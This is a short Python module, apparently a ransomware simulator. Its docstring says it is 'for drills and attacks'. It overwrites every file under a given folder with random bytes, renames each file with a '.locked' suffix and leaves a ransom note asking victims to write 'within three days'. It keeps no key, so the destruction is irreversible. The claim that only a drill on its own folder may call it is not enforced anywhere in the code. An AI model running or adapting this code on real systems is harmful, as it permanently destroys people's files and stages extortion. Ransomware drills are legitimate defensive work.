"""What ransomware does to a folder, for drills and attacks: every file unreadable, none spared.

It keeps no key, so nobody could pay for one. Only a drill may call it, over a folder it made.
"""

import os
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

SUFFIX = ".locked"
NOTE = "HOW-TO-GET-YOUR-DATA-BACK.txt"
_BLOCK = 1 << 20


class Havoc(NamedTuple):
    """What is gone: files, and their bytes."""

    files: int
    bytes: int


def encrypt_folder(folder: Path) -> Havoc:
    """Overwrite every file under a folder with noise of the same length, rename it, leave a note.

    Follows no links. A file that another process takes away meanwhile is passed over.
    """
    files = size = 0
    for path in list(_files(folder)):
        try:
            size += _overwrite(path)
            path.rename(path.with_name(path.name + SUFFIX))
        except FileNotFoundError:
            continue
        files += 1
    (folder / NOTE).write_text("your files are encrypted; write to us within three days\n")
    return Havoc(files, size)


def _files(folder: Path) -> Iterator[Path]:
    for where, _, names in os.walk(folder):
        yield from (path for name in names if (path := Path(where) / name).is_file())


def _overwrite(path: Path) -> int:
    if path.is_symlink():
        return 0
    left = size = path.stat().st_size
    with path.open("r+b") as file:
        while left:
            left -= file.write(os.urandom(min(left, _BLOCK)))
    return size
